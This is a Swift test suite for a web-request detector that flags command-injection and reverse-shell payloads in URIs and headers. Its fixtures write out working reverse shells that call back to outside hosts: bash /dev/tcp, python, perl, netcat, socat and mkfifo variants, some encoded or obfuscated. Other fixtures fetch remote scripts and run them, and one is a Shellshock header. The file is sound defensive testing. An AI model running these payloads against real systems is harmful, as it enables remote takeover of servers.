import Detectors
import FleetModel
import Testing

@Suite struct PayloadMatcherTests {
    static let storyShellRaw = "/dangerzone?category=fashion&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1"
    static let storyShellEncoded =
        "/dangerzone?category=fashion%26%26sh%20-i%20%3E%26%20%2Fdev%2Ftcp%2F35.217.6.162%2F3000%200%3E%261"
    static let storyShellDouble =
        "/dangerzone?category=fashion%2526%2526sh%2520-i%2520%253E%2526%2520%252Fdev%252Ftcp%252F35.217.6.162%252F3000%25200%253E%25261"
    static let storyPythonRaw = """
        /dangerzone?category=fashion&&export RHOST="35.217.6.162";export RPORT=3000;python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'
        """
    static let storyPythonEncoded =
        "/dangerzone?category=fashion%26%26export%20RHOST%3D%2235.217.6.162%22%3Bexport%20RPORT%3D3000%3Bpython3%20-c%20%27import%20sys%2Csocket%2Cos%2Cpty%3Bs%3Dsocket.socket%28%29%3Bs.connect%28%28os.getenv%28%22RHOST%22%29%2Cint%28os.getenv%28%22RPORT%22%29%29%29%29%3B%5Bos.dup2%28s.fileno%28%29%2Cfd%29%20for%20fd%20in%20%280%2C1%2C2%29%5D%3Bpty.spawn%28%22sh%22%29%27"

    struct Case: Sendable, CustomTestStringConvertible {
        var uri: String
        var host: String?
        var port: UInt16?
        var techniques: [String]
        var testDescription: String { String(uri.prefix(60)) }
    }

    static let malicious: [Case] = [
        Case(
            uri: storyShellRaw, host: "35.217.6.162", port: 3000,
            techniques: ["chain:&&", "dev-tcp", "interactive-shell"]),
        Case(uri: storyShellEncoded, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "dev-tcp"]),
        Case(uri: storyShellDouble, host: "35.217.6.162", port: 3000, techniques: ["dev-tcp", "multi-encoding"]),
        Case(uri: storyPythonRaw, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "python-socket-shell"]),
        Case(
            uri: storyPythonEncoded, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "python-socket-shell"]),
        // `+` as space in the query.
        Case(
            uri: "/ping?host=1.1.1.1;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261", host: "203.0.113.9", port: 4444,
            techniques: ["chain:;", "interactive-shell", "dev-tcp"]),
        // ${IFS} evasion.
        Case(
            uri: "/x?cat=a;nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.7${IFS}9001", host: "198.51.100.7", port: 9001,
            techniques: ["chain:;", "netcat-exec", "ifs-evasion"]),
        Case(
            uri: "/x?cat=a;nc$IFS$9-e$IFS$9/bin/sh$IFS$9198.51.100.7$IFS$99001", host: "198.51.100.7", port: 9001,
            techniques: ["netcat-exec", "ifs-evasion"]),
        // base64, percent-encoded and raw (`echo B64|base64 -d|bash`, `base64 --decode`).
        Case(
            uri: "/q?x=x%26%26echo%20YmFzaCAtaSA%2BJiAvZGV2L3RjcC8zNS4yMTcuNi4xNjIvMzAwMCAwPiYx%7Cbase64%20-d%7Cbash",
            host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "dev-tcp", "base64-exec", "base64"]),
        Case(
            uri: "/q?x=1;echo 'c2ggLWkgPiYgL2Rldi90Y3AvMTAuOS44LjcvNTU1NSAwPiYx' | base64 --decode | sh",
            host: "10.9.8.7", port: 5555, techniques: ["chain:;", "dev-tcp", "interactive-shell", "base64-exec"]),
        // %u escapes (IIS style).
        Case(
            uri: "/q?x=1%u0026%u0026curl%20http://evil.example:8000/s.sh%7Csh", host: "evil.example", port: 8000,
            techniques: ["chain:&&", "download-exec", "unicode-escape"]),
        Case(
            uri: "/q?f=a|wget -O- http://192.0.2.44/x|sh", host: "192.0.2.44", port: nil,
            techniques: ["chain:|", "download-exec"]),
        Case(uri: "/q?f=`id`", host: nil, port: nil, techniques: ["chain:`"]),
        Case(uri: "/q?f=$(whoami)", host: nil, port: nil, techniques: ["chain:$("]),
        Case(
            uri: "/q?f=x||rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.5 4242 >/tmp/f",
            host: "192.0.2.5", port: 4242, techniques: ["chain:||", "mkfifo", "interactive-shell"]),
        Case(
            uri: "/q?f=1;socat tcp:192.0.2.6:7777 exec:sh,pty,stderr", host: "192.0.2.6", port: 7777,
            techniques: ["chain:;", "socat-exec"]),
        Case(
            uri:
                "/q?f=1;perl -e 'use Socket;$i=\"192.0.2.8\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
            host: "192.0.2.8", port: nil, techniques: ["chain:;", "perl-socket-shell"]),
        Case(uri: "/q?f=1%0abash%20-i", host: nil, port: nil, techniques: ["chain:newline", "interactive-shell"]),
        Case(uri: "/q?f=1%0d%0aid", host: nil, port: nil, techniques: ["chain:newline"]),
    ]

    @Test(arguments: malicious)
    func detectsInjection(_ item: Case) throws {
        let match = try #require(PayloadMatcher.match(uri: item.uri))
        #expect(match.callbackHost == item.host)
        #expect(match.callbackPort == item.port)
        for technique in item.techniques {
            #expect(match.techniques.contains(technique), "missing \(technique) in \(match.techniques)")
        }
    }

    @Test(arguments: [
        "/search?q=rock+%26+roll", "/a?x=1&y=2", "/api/v1/items;jsessionid=abc", "/", "/index.html",
        "/search?q=shell+scripting+bash+-i+tutorial", "/a?q=fish+%26+chips&sort=asc", "/path/with%20space",
        "/a?x=1&&y=2", "/a?redirect=https://example.com/a|b", "/latest/meta-data/iam/security-credentials/",
        "/a?q=%25%32%35", "/a?q=%", "/a?q=%u12", "/a?sql=select+*+from+t+where+a=1;", "/a?q=c%2B%2B+is+fun",
        "/wiki/Cat_(Unix)?action=edit", "/api?list=a;b;c", "/a?email=x@y.z&tel=1|2",
    ])
    func ignoresBenign(_ uri: String) {
        #expect(PayloadMatcher.match(uri: uri) == nil)
    }

    @Test func storyPayloadsScoreAsReverseShells() throws {
        for uri in [Self.storyShellRaw, Self.storyShellEncoded, Self.storyPythonRaw, Self.storyPythonEncoded] {
            let match = try #require(PayloadMatcher.match(uri: uri))
            #expect(match.reverseShell)
            #expect(match.chained)
            #expect(match.callbackAddress == IPAddress("35.217.6.162"))
            #expect(match.score >= 0.9)
        }
    }

    @Test func headersAreCheckedForIdiomsOnly() {
        #expect(PayloadMatcher.match(header: "() { :;}; /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/80 0>&1'") != nil)
        #expect(
            PayloadMatcher.match(header: "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0")
                == nil)
        #expect(PayloadMatcher.match(header: "curl/8.5.0") == nil)
    }

    @Test(arguments: [
        ("a%20b", "a b"), ("a+b?c+d", "a+b?c d"), ("%2541", "A"), ("%252541", "A"), ("%u0041%u00e9", "Aé"),
        ("%zz%4", "%zz%4"), ("x${IFS}y", "x y"), ("x\t\t y", "x y"),
    ])
    func decoder(input: String, expected: String) {
        #expect(PayloadDecoder.decode(uri: input).text == expected)
    }

    @Test(arguments: [("aGVsbG8=", "hello"), ("aGVsbG8", "hello"), ("aGk_", "hi?"), ("Zm9vYmFy", "foobar")])
    func base64(input: String, expected: String) throws {
        let bytes = try #require(PayloadDecoder.base64Decode(input))
        #expect(String(decoding: bytes, as: UTF8.self) == expected)
    }

    @Test func base64RejectsGarbage() {
        #expect(PayloadDecoder.base64Decode("ab$c") == nil)
        #expect(PayloadDecoder.base64Decode("ab=c") == nil)
    }

    @Test func neverTrapsOnPrefixes() {
        // Every truncation of every malicious payload decodes without trapping.
        for item in Self.malicious {
            var text = ""
            for character in item.uri {
                text.append(character)
                _ = PayloadMatcher.match(uri: text)
            }
        }
    }

    @Test func boundedInput() {
        let huge = "/a?x=" + String(repeating: "%25", count: 100_000)
        let decoded = PayloadDecoder.decode(uri: huge).text
        #expect(decoded.utf8.count <= PayloadDecoder.maxInputLength)
    }
}
